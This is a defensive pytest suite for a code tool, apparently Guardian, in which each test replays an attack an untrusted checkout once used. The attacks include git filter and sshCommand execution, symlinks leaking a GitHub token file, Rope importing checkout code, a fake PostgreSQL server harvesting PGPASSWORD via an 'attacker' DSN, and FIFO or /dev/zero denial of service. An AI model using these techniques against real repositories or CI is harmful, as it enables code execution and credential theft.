"""A fresh review of the trust model, run as an attacker who controls the checkout (December 2026).

Each test is one attack that worked on the code before its fix; what the review tried that held is
listed in the issue's closing note.
"""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pytest
from attack_helpers import git, plan_apply_revert, run, with_schema


def _marker_script(tmp_path: Path, marker: Path, *, passthrough: bool = False) -> Path:
    script = tmp_path / f"{marker.name}.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n" + ("cat\n" if passthrough else "exit 1\n"))
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return script


@pytest.fixture
def checkout(checkout: Path) -> Path:
    """The suite's checkout with a pattern that renames its modules, so that `apply` has work to do."""
    (checkout / "guardian.toml").write_text(
        'source_roots = ["src"]\npattern = "WF{workflow}_{name}"\n[workflows]\n"src/pkg/**" = 1\n'
    )
    git(checkout, "commit", "-qam", "renaming pattern")
    return checkout


def test_a_submodule_filter_driver_runs_nothing(checkout: Path, tmp_path: Path) -> None:
    """A nested repository committed as a submodule defines its own clean filter in its own
    .git/config; `git status` in the checkout recurses into it and would run the filter there."""
    marker = tmp_path / "submodule-filter-ran"
    script = _marker_script(tmp_path, marker, passthrough=True)
    sub = checkout / "vendor/sub"
    sub.mkdir(parents=True)
    (sub / "data.txt").write_text("data\n")
    (sub / ".gitattributes").write_text("* filter=evil\n")
    git(sub, "init", "-q")
    git(sub, "add", "-A")
    git(sub, "commit", "-q", "-m", "sub")
    git(sub, "config", "filter.evil.clean", str(script))
    git(checkout, "add", "vendor/sub")
    git(checkout, "commit", "-q", "-m", "submodule")
    with (sub / "data.txt").open("a") as data:  # changed: git cleans it to compare
        data.write("more\n")
    plan_apply_revert(checkout)
    assert not marker.exists()


def test_a_partial_clone_fetches_nothing_through_the_checkouts_ssh_command(checkout: Path, tmp_path: Path) -> None:
    """A shipped .git/ that says it is a partial clone, with HEAD's tree missing: git fetches a
    missing object from the promisor remote on demand, running core.sshCommand from .git/config."""
    marker = tmp_path / "ssh-command-ran"
    script = _marker_script(tmp_path, marker)
    for key, value in {
        "core.repositoryformatversion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.url": "ssh://example.invalid/repo.git",
        "remote.origin.promisor": "true",
        "core.sshCommand": str(script),
    }.items():
        git(checkout, "config", key, value)
    tree = git(checkout, "rev-parse", "HEAD^{tree}").strip()
    (checkout / ".git/objects" / tree[:2] / tree[2:]).unlink()
    for command in (["plan"], ["status"], ["apply", "--all"], ["journal"], ["revert", "--all"]):
        code, _, err = run(checkout, "--no-exec", *command)
        assert code != 1, (command, err)
        if command[0] == "apply":  # git cannot read HEAD's tree: a one-line error, nothing applied
            assert code == 2 and "`git status` failed" in err and "bad tree object" in err, err
    assert not marker.exists()


@pytest.mark.parametrize("shims", [False, True])
def test_validate_no_exec_imports_no_old_public_path(checkout: Path, tmp_path: Path, shims: bool) -> None:
    """`validate`'s old-public-paths check imports the renamed package to compare its old and new
    paths; it ran under --no-exec whenever a renamed module stayed public (a shim, or a package
    that binds the old name: `from . import b` is rewritten `from . import WF1_b as b`)."""
    marker = tmp_path / "package-imported"
    (checkout / "src/pkg/__init__.py").write_text(f"from . import b\nopen({str(marker)!r}, 'w').close()\n")
    git(checkout, "commit", "-qam", "package binds its module")
    assert run(checkout, "--no-exec", "plan")[0] == 0
    code, _, err = run(checkout, "--no-exec", "apply", "--all", *(["--shims"] if shims else []))
    assert code == 0, err
    code, out, err = run(checkout, "--no-exec", "--json", "validate")
    assert '"old-public-paths"' in out, out
    assert not marker.exists()


SECRET = "ghp_0123456789abcdefSECRET"


def test_a_sql_file_symlinked_outside_the_repository_is_not_read_into_the_report(checkout: Path, outside: Path) -> None:
    """`db/notes.sql -> ~/.config/gh/hosts.yml`: assess listed the "SQL it cannot read" with the
    statement's text, so the user's token reached the terminal, the JSON and the CI log."""
    (outside / "hosts.yml").write_text(f"github.com:\n    oauth_token: {SECRET}\n")
    with_schema(checkout)
    (checkout / "db/notes.sql").symlink_to(outside / "hosts.yml")
    git(checkout, "add", "-A")
    git(checkout, "commit", "-qm", "database")
    report = str(checkout / "report.html")
    for command in (["assess"], ["--json", "assess"], ["check"], ["report", "--html", report]):
        code, out, err = run(checkout, "--no-exec", *command)
        assert code in ((0, 1) if command == ["check"] else (0, 3)), (command, err)  # check: 1 = problems
        assert SECRET not in out + err, command
    assert SECRET not in (checkout / "report.html").read_text()


@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink"])
def test_a_schema_file_outside_the_repository_is_refused(checkout: Path, outside: Path, how: str) -> None:
    """`schema = ["/home/me/other-project/schema.sql"]` (or `../`, or a symlink leading out) made
    assess read, model and report a file of the machine the checkout chose."""
    (outside / "other.sql").write_text(f"CREATE TYPE mood AS ENUM ('{SECRET}', 'b');\n")
    if how == "symlink":
        (checkout / "db").mkdir()
        (checkout / "db/other.sql").symlink_to(outside / "other.sql")
    shown = {"absolute": str(outside / "other.sql"), "dotdot": "../outside/other.sql", "symlink": "db/other.sql"}
    with_schema(checkout, shown[how])
    code, out, err = run(checkout, "--no-exec", "assess")
    assert code == 2 and "database.schema" in err and "outside the repository" in err, err
    assert SECRET not in out + err


@pytest.mark.parametrize("target", ["/dev/zero", "fifo"])
def test_a_module_that_is_a_device_or_a_fifo_is_not_read(checkout: Path, tmp_path: Path, target: str) -> None:
    """`src/pkg/z.py -> /dev/zero` (a symlink git stores) or a FIFO (a tarball): plan read it to the
    end, which never comes: MemoryError (exit 1) or a hang. Run in a child with 2 GiB of address space."""
    import resource
    import subprocess
    import sys

    if target == "fifo":
        os.mkfifo(checkout / "src/pkg/z.py")
        os.mkfifo(checkout / "notes.md")
    else:
        (checkout / "src/pkg/z.py").symlink_to(target)
        (checkout / "notes.md").symlink_to(target)
        (checkout / "guardian.toml").rename(checkout / "real.toml")
        (checkout / "guardian.toml").symlink_to(target)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    config = ["--config", "real.toml"] if target != "fifo" else []
    for command in (["plan"], ["assess"], ["report", "--html", str(tmp_path / "r.html")]):
        done = subprocess.run(
            [sys.executable, "-m", "guardian", "--repo", str(checkout), *config, "--no-exec", *command],
            capture_output=True,
            text=True,
            timeout=120,
            preexec_fn=limit,
            check=False,
        )
        assert done.returncode in (0, 3), (command, done.stderr)


def test_a_configuration_symlinked_outside_the_repository_is_refused(checkout: Path, outside: Path) -> None:
    """`guardian.toml -> ~/somewhere/settings.toml`: the checkout chose which file of the machine
    Guardian reads as its configuration, and every error about it quoted that file's keys and values."""
    (outside / "settings.toml").write_text(f'source_roots = ["src"]\npattern = "{{name}}"\nnumbering = "{SECRET}"\n')
    (checkout / "guardian.toml").unlink()
    (checkout / "guardian.toml").symlink_to(outside / "settings.toml")
    code, out, err = run(checkout, "--no-exec", "plan")
    assert code == 2 and "guardian.toml" in err and "outside the repository" in err, err
    assert SECRET not in out + err


def test_rope_imports_no_module_the_checkouts_pyproject_names(checkout: Path, tmp_path: Path) -> None:
    """Rope reads `[tool.rope]` from the project's pyproject.toml: `extension_modules` are modules
    Rope `__import__`s in Guardian's own process to inspect them, and `type_hinting_factory` is a
    dotted path it imports. Run as `python -m guardian` from the checkout (the current directory is
    then on sys.path), `apply --no-exec` ran the checkout's `evil.py`."""
    import subprocess
    import sys

    marker = tmp_path / "rope-imported-it"
    (checkout / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (checkout / "pyproject.toml").write_text(
        '[tool.rope]\nextension_modules = ["evil"]\ntype_hinting_factory = "evil.factory"\n'
    )
    (checkout / "src/pkg/a.py").write_text("from evil import b\nimport pkg.b\n")
    git(checkout, "add", "-A")
    git(checkout, "commit", "-qm", "rope configuration")
    for command in (["plan"], ["apply", "--all"]):
        done = subprocess.run(
            [sys.executable, "-m", "guardian", "--no-exec", *command],
            cwd=checkout,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert done.returncode == 0, (command, done.stderr)
    assert not marker.exists()


class _PasswordCatcher:
    """A PostgreSQL server of the attacker's: it asks every client for its password in clear text."""

    def __init__(self) -> None:
        import socket
        import threading

        self.received: list[bytes] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        import struct

        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(10)
                try:
                    while True:
                        length, code = struct.unpack("!II", conn.recv(8))
                        body = conn.recv(length - 8) if length > 8 else b""
                        if code in (80877103, 80877104):  # SSLRequest, GSSENCRequest: no
                            conn.sendall(b"N")
                            continue
                        assert body is not None
                        conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
                        kind = conn.recv(1)
                        size = struct.unpack("!I", conn.recv(4))[0]
                        if kind == b"p":
                            self.received.append(conn.recv(size - 4))
                        break
                except (OSError, struct.error):
                    pass

    def close(self) -> None:
        self.server.close()


def test_a_configured_dsn_gets_no_credentials_of_the_user_under_no_exec(
    checkout: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`[database] dsn = "postgresql://postgres@attacker:5432/db"` in the checkout's configuration:
    `assess` connected there, and libpq answered the server's clear-text password request with the
    user's PGPASSWORD (or a matching ~/.pgpass line): a CI secret sent to a host the checkout chose."""
    catcher = _PasswordCatcher()
    monkeypatch.setenv("PGPASSWORD", SECRET)
    try:
        with (checkout / "guardian.toml").open("a") as config:
            config.write(f'[database]\ndsn = "postgresql://postgres@127.0.0.1:{catcher.port}/db"\n')
        code, out, err = run(checkout, "--no-exec", "assess")
        assert code == 0, err
        assert "--no-exec" in err and "dsn" in err
    finally:
        catcher.close()
    assert catcher.received == []


def test_a_git_file_naming_another_repositorys_git_directory_changes_nothing_there(
    checkout: Path, tmp_path: Path
) -> None:
    """A tarball's `.git` can be a file, `gitdir: ../other/.git`, naming the git directory of another
    clone on the machine (CI runners keep them side by side): `apply` then ran `git add -N` and
    `git status` against that repository's index, and `revert` ran `git rm --cached` on it."""
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(checkout), str(other))
    (other / "work.txt").write_text("the other clone's own staged work\n")
    git(other, "add", "work.txt")
    index = (other / ".git/index").read_bytes()
    shutil.rmtree(checkout / ".git")
    (checkout / ".git").write_text("gitdir: ../other/.git\n")
    code, _, err = run(checkout, "--no-exec", "plan")
    assert code == 2 and "other" in err, err  # every command is refused before git reads an index
    code, _, err = run(checkout, "--no-exec", "apply", "--all")
    assert (other / ".git/index").read_bytes() == index
    assert code == 2 and ".git" in err and "other" in err, err


def test_a_sparse_file_of_gigabytes_is_not_read(checkout: Path, tmp_path: Path) -> None:
    """A tarball can hold a sparse file of any size that takes no disk: `plan` read a 4 GiB
    `notes.md` or `src/pkg/big.py` whole (MemoryError, exit 1, or the machine's memory). A document
    that large is skipped; a module that large is a one-line error naming it (exit 2)."""
    import resource
    import subprocess
    import sys

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    def plan() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", "plan"],
            capture_output=True,
            text=True,
            timeout=120,
            preexec_fn=limit,
            check=False,
        )

    with (checkout / "notes.md").open("wb") as notes:
        notes.truncate(4 << 30)
    done = plan()
    assert done.returncode == 0, done.stderr
    with (checkout / "src/pkg/big.py").open("wb") as big:
        big.truncate(4 << 30)
    done = plan()
    assert done.returncode == 2 and "src/pkg/big.py" in done.stderr and "larger than" in done.stderr, done.stderr


def test_blobs_a_checkout_ships_under_the_next_batch_id_are_not_taken_as_guardians(checkout: Path) -> None:
    """Blobs are content-addressed and batch ids predictable: a tarball's `.guardian/journal/1/blobs/`
    held a file named for the sha256 of each module, with other content. `apply` kept them as its own
    ("already stored"), so `revert` failed on a corrupt journal (or hung on a FIFO there)."""
    import hashlib

    blobs = checkout / ".guardian/journal/1/blobs"
    blobs.mkdir(parents=True)
    for path in (checkout / "src/pkg").glob("*.py"):
        (blobs / hashlib.sha256(path.read_bytes()).hexdigest()).write_text("not the file\n")
    before = {p: p.read_bytes() for p in (checkout / "src/pkg").glob("*.py")}
    plan_apply_revert(checkout)
    assert {p: p.read_bytes() for p in (checkout / "src/pkg").glob("*.py")} == before


def test_a_fifo_a_tarball_ships_in_the_state_directory_is_refused(checkout: Path) -> None:
    """`.guardian/plan.json` or `.guardian/cache/facts.json` as a FIFO (a tarball can hold one):
    `review` and `plan` opened it and waited for a writer forever."""
    import subprocess
    import sys

    (checkout / ".guardian/cache").mkdir(parents=True)
    os.mkfifo(checkout / ".guardian/plan.json")
    os.mkfifo(checkout / ".guardian/cache/facts.json")
    for command in (["review"], ["plan"]):
        done = subprocess.run(
            [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", *command],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 2 and "FIFO" in done.stderr, (command, done.stderr)


@pytest.mark.parametrize("target", ["/dev/zero", "outside"])
def test_a_check_baseline_symlinked_to_a_device_or_outside_is_refused(
    checkout: Path, outside: Path, tmp_path: Path, target: str
) -> None:
    """`.guardian-baseline.json -> /dev/zero` (a symlink a pull request can add): `guardian check`,
    run on every pull request in CI and pre-commit, read it to the end (MemoryError, exit 1)."""
    import resource
    import subprocess
    import sys

    (outside / "baseline.json").write_text('{"version": 1}\n')
    (checkout / ".guardian-baseline.json").symlink_to(target if target != "outside" else outside / "baseline.json")

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    done = subprocess.run(
        [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", "check"],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=limit,
        check=False,
    )
    assert done.returncode == 2 and ".guardian-baseline.json" in done.stderr, done.stderr
